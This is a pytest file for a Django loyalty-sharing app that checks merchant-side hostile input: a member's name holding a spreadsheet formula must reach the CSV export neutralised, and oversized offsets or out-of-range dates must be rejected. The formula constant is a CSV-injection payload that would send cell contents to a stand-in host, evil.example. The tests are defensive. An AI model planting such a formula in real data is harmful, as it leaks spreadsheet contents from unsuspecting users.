"""Hostile input on the merchant side: formulas in CSV cells, offsets no database answers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from kliento.audit.actors import Actor
from kliento.register import services as register
from kliento.sharing import services as sharing
from tests.sharing.test_customer_view import api_checkin

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'


@pytest.mark.django_db
def test_a_members_formula_reaches_the_merchants_export_as_text(
    client: Client, merchant_a: Any, cardholder: Any, person: Any
) -> None:
    subject, number = person
    api_checkin(client, merchant_a, number)
    me = Actor.person(cardholder)
    register.profile_value_set(subject=subject, item_key="first_name", value=FORMULA, actor=me)
    sharing.grants_set(
        subject=subject, merchant=merchant_a.merchant, items=["first_name"], actor=me
    )
    client.force_login(merchant_a.owner)

    response = client.get(f"/merchant/{merchant_a.merchant.public_id}/customers/export.csv")

    content = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    [row] = list(csv.DictReader(io.StringIO(content)))
    assert row["first_name"] == "'" + FORMULA


@pytest.mark.parametrize("offset", ["99999999999999999999", "9223372036854775808"])
def test_a_huge_offset_is_a_validation_error_not_a_server_error(
    client: Client, merchant_a: Any, offset: str
) -> None:
    from tests.sharing.conftest import api_get

    response = api_get(client, merchant_a, f"/api/v1/merchant/customers?offset={offset}")

    assert response.status_code == 422
    assert response.json()["code"] == "validation_failed"


@pytest.mark.parametrize(
    "query", ["since=0001-01-01", "until=9999-12-31", "since=0001-01-01&until=9999-12-31"]
)
def test_activity_dates_out_of_range_are_a_form_error_and_exports_refuse_them(
    cardholder: Any, query: str
) -> None:
    client = Client()
    client.force_login(cardholder)

    page = client.get(f"/profile/activity/?{query}")
    assert page.status_code == 200
    assert "2000" in page.content.decode()  # the form says which years it takes

    for fmt in ("csv", "json"):
        response = client.get(f"/profile/activity/export.{fmt}?{query}")
        assert response.status_code == 400
